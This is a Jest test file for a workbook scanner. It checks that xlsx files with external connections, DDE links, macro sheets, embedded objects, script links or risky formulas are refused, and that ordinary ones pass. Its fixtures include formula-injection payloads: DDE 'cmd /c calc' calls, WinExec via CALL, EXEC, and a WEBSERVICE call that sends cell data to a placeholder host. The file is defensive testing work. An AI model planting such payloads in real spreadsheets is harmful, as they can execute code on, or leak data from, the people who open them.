/** What a workbook may not bring along, each as a small file, and what ordinary ones do. */
import { describe, expect, test } from '@jest/globals';
import { xlsx, type XlsxOptions } from '../../builders/xlsx.js';
import { content, IN_FULL, OUTSIDE, override, readingOf, relation, relations, SHEET, SHEET1, withCell } from './packages.js';

const formula = (text: string): XlsxOptions => ({
  afterData: `<extLst><ext><x:f xmlns:x="http://schemas.microsoft.com/office/excel/2006/main">${text}</x:f></ext></extLst>`,
});

const ofSheet = (...each: string[]): XlsxOptions => ({
  parts: { 'xl/worksheets/_rels/sheet1.xml.rels': relations(...each) },
});
const ofBook = (name: string, type: string, part: string): XlsxOptions => ({
  contentTypes: override(name, `application/vnd.openxmlformats-officedocument.spreadsheetml.${type}+xml`),
  parts: { [name]: part },
});

const BOOK_ACTIVE: readonly (readonly [string, string, XlsxOptions])[] = [
  [
    'connections',
    'outside-data document',
    ofBook('xl/connections.xml', 'connections', `<connections xmlns="${SHEET}"/>`),
  ],
  [
    'connections by their elements',
    'outside-data xl/a.xml',
    {
      parts: {
        'xl/a.xml': `<c:connections xmlns:c="http://purl.oclc.org/ooxml/spreadsheetml/main"><c:connection id="1"/></c:connections>`,
      },
    },
  ],
  ['a query', 'outside-data document', ofBook('xl/queryTables/queryTable1.xml', 'queryTable', '<a/>')],
  ['a query by relation', `outside-data ${SHEET1}`, ofSheet(relation('queryTable', '../a.xml'))],
  [
    'cells of another workbook',
    'outside-data document',
    ofBook('xl/externalLinks/externalLink1.xml', 'externalLink', '<a/>'),
  ],
  [
    'data asked of another program',
    'outside-data xl/a.xml',
    {
      parts: {
        'xl/a.xml': `<externalLink xmlns="${SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      },
    },
  ],
  [
    'queries of its own',
    'outside-data customXml/item1.xml',
    {
      parts: { 'customXml/item1.xml': '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA==</DataMashup>' },
    },
  ],
  ['an object', `embedded-object ${SHEET1}`, ofSheet(relation('oleObject', '../embeddings/a.bin'))],
  [
    'a picture of the web',
    `outside-content ${SHEET1}`,
    ofSheet(relation('image', 'https://example.test/a.png', OUTSIDE)),
  ],
  ['a link to a script', `script-link ${SHEET1}`, ofSheet(relation('hyperlink', 'vbscript:a', OUTSIDE))],
  ['a formula of a rule', 'formula xl/worksheets/sheet1.xml', formula('WEBSERVICE("http://example.test")')],
  [
    'a formula of a name',
    'formula xl/workbook.xml',
    { workbook: '<definedNames><definedName name="a">EXEC("calc")</definedName></definedNames>' },
  ],
  [
    'a name for a cell of another file',
    'outside-data xl/workbook.xml',
    { workbook: `<definedNames><definedName name="a">'\\\\host\\[a.xlsx]b'!$A$1</definedName></definedNames>` },
  ],
];

const CELLS: readonly (readonly [string, string])[] = [
  ['formula', '_xlfn.WEBSERVICE("http://example.test/"&A1)'],
  ['formula', 'IF(1,rtd("a",,"b"),2)'],
  ['formula', 'CALL("Kernel32","WinExec","JCJ","calc",0)'],
  ['formula', 'REGISTER.ID("a","b")'],
  ['formula', '_xlfn.IMAGE("http://example.test/a.png")'],
  ['formula', "cmd|'/c calc'!A0"],
  ['formula', "'cmd'|'/c calc'!A0"],
  ['formula', 'HYPERLINK(A1,"a")'],
  ['formula', 'HYPERLINK("java"&A1)'],
  ['script-link', 'HYPERLINK("java" & "script:alert(1)","a")'],
  ['share-link', 'SUM(1)+HYPERLINK("\\\\host\\share")'],
];

describe('a workbook is refused by kind and place', () => {
  test.each(BOOK_ACTIVE)('%s: %s', async (_, told, options) => {
    expect(await readingOf(xlsx(content, options))).toBe(told);
  });
  test.each(CELLS)('%s: %s', async (kind, text) => {
    expect(await readingOf(withCell(text))).toBe(`${kind} 年报!B900`);
  });
  test('a sheet of commands', async () => {
    const parts = { 'xl/macrosheets/sheet1.xml': '<a/>' };
    expect(await readingOf(xlsx(content, { parts }))).toBe('macros xl/macrosheets/sheet1.xml');
    const named = { 'xl/worksheets/sheet9.xml': '<a/>' };
    const contentTypes = override('xl/worksheets/sheet9.xml', 'application/vnd.ms-excel.macrosheet+xml');
    expect(await readingOf(xlsx(content, { parts: named, contentTypes }))).toBe('macros document');
  });
});

const BOOK_HARMLESS: readonly (readonly [string, XlsxOptions])[] = [
  ['links of the web', ofSheet(relation('hyperlink', 'https://www.example.test/', OUTSIDE))],
  [
    'printer settings and drawings',
    {
      contentTypes:
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>',
      parts: {
        'xl/printerSettings/printerSettings1.bin': Buffer.alloc(200),
        'xl/worksheets/_rels/sheet1.xml.rels': relations(
          relation('printerSettings', '../printerSettings/printerSettings1.bin'),
        ),
      },
    },
  ],
  [
    'names of areas',
    {
      workbook: `<definedNames><definedName name="_xlnm.Print_Area" localSheetId="0">'年报'!$A$1:$J$60</definedName><definedName name="a">SUM('a|b'!A1,"cmd|x")</definedName></definedNames>`,
    },
  ],
  [
    'themes and descriptions',
    {
      parts: {
        'xl/theme/theme1.xml': '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"/>',
        'docProps/core.xml': '<a/>',
      },
    },
  ],
  ['formulas of a rule', formula('AND(A1>0,COUNTIF($A:$A,A1)=1)')],
];

describe('a workbook is read in full with', () => {
  test.each(BOOK_HARMLESS)('%s', async (_, options) => {
    expect(await readingOf(xlsx(content, options))).toBe(IN_FULL);
  });
  test.each([
    'SUM(A1:A9)',
    'IF(ISERROR(VLOOKUP("call(1)",$A$1:$B$9,2,FALSE)),"|",1)',
    'HYPERLINK("https://www.example.test/"&A1,"a")',
    'HYPERLINK("#年报!A1","a")',
    '_xlfn.DISPIMG("ID_1",1)',
    "ROUND('javascript:'!A1,2)",
    'RECALL(1)+IMAGES',
  ])('the formula %s', async (text) => {
    expect(await readingOf(withCell(text))).toBe(IN_FULL);
  });
});
